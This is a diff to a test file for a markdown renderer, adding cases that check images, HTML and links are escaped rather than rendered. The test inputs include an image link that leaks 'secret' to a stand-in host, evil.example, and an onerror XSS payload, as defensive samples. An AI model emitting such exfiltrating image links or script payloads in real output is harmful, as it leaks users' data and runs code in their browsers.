@@ -37,7 +37,7 @@ describe('citation markers', () => {
   });
 
   it.each([
-    'Plain text, a [link](https://example.org) and a [[Note#Heading|wikilink]].',
+    'Plain text, an address https://example.org and a [[Note#Heading|wikilink]].',
     'The daily note [[2024-03-05]] stays.',
     'Code `list[7]` and ``a ` b[8]`` stay.',
     '```js\nlist[7] = other[99];\n![x](y)\n```\nafter',
@@ -60,10 +60,17 @@ describe('citation markers', () => {
   });
 
   it('shows images, HTML and foreign footnotes instead of letting them act', () => {
-    expect(render(['![x](https://evil.example/?q=secret)'])).toBe('\\![x](https://evil.example/?q=secret)');
+    expect(render(['![x](https://evil.example/?q=secret)'])).toBe('\\![x]\\(https://evil.example/?q=secret)');
     expect(render(['![[secret.png]]'])).toBe('\\![[secret.png]]');
     expect(render(['<img src=x onerror=alert(1)> <!-- hidden --> </b>'])).toBe('\\<img src=x onerror=alert(1)> \\<!-- hidden --> \\</b>');
     expect(render(['See [^note].\n\n[^note]: gone'])).toBe('See \\[^note].\n\n\\[^note]: gone');
+  });
+
+  it('shows the address of a link instead of hiding it behind words', () => {
+    expect(render(['See [this](https://evil.example/?q=secret).'])).toBe('See [this]\\(https://evil.example/?q=secret).');
+    expect(render(['See [[Note]](', 'https://evil.example).'])).toBe('See [[Note]]\\(https://evil.example).');
+    expect(render(['[x]', ': https://evil.example'])).toBe('[x]\\: https://evil.example');
+    expect(render(['`[x](y)` stays code'])).toBe('`[x](y)` stays code');
   });
 
   it('never makes a link or a definition of a citation', () => {
@@ -73,7 +80,7 @@ describe('citation markers', () => {
   });
 
   it('shows a passage without anything that acts', () => {
-    expect(showAsText('As said [1] ![a](b) <script>')).toBe('As said \\![a](b) \\<script>');
+    expect(showAsText('As said [1] ![a](b) <script>')).toBe('As said \\![a]\\(b) \\<script>');
   });
 });
 
